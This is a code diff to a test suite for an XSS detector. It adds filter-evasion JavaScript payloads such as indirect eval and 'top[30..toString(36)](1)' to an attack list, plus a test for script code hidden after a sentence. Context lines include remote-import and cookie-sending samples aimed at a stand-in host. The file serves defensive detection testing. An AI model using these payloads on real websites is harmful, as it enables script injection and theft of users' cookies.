@@ -83,6 +83,10 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     "new Image().src='//x.example'",
     "confirm.call(null,1)",
     "alert?.(1)",
+    "(0,eval)('x')",
+    "[1].find(alert)",
+    "Reflect.apply(prompt,null,[1])",
+    "top[30..toString(36)](1)",
     "top?.['eval'](name)",
     "import('//x.example/a.js')",
     "setTimeout(code, 1)",
@@ -189,6 +193,11 @@ test("a program that works on its page is no attack by itself", () => {
   ].join("\n");
   assert.ok(pointsOf(xssDetector, program, "body") < refusalPoints);
   assert.ok(pointsOf(xssDetector, `${program}\nsend(document.cookie);`, "body") >= refusalPoints);
+});
+
+test("a sentence around a tag is no excuse for the code that follows", () => {
+  const value = "please put the <script> var a\nvar b\ngo(1)";
+  assert.ok(pointsOf(xssDetector, value, "body") >= refusalPoints);
 });
 
 test("an object of the page may be named in a sentence", () => {
